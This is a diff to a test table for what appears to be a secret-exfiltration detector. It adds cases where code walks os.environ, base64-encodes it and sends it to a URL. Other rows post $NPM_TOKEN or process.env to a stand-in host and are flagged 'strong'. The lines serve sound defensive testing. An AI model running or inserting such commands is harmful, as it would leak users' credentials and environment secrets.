@@ -13,6 +13,13 @@ test.each([
   ["a private address", "src/a.sh", "curl http://192.168.1.9:8080/x", []],
   ["a documentation address", "src/a.sh", "curl http://203.0.113.9/x", []],
   ["the environment", "src/a.js", 'fetch("https://a.example", { body: JSON.stringify(process.env) })', ["strong"]],
+  [
+    "the environment, walked and encoded",
+    "a.py",
+    "for k, v in os.environ.items(): s += k\nrequests.get(u + b64encode(s))",
+    ["strong"],
+  ],
+  ["a copy of the environment", "a.py", "env = os.environ.copy()\nrequests.get(u)", []],
   ["a foreign token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://a.example/', ["strong"]],
   ["the owner's token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://registry.npmjs.org/', []],
   ["an ordinary host", "src/a.js", 'fetch("https://api.example.com")', []],
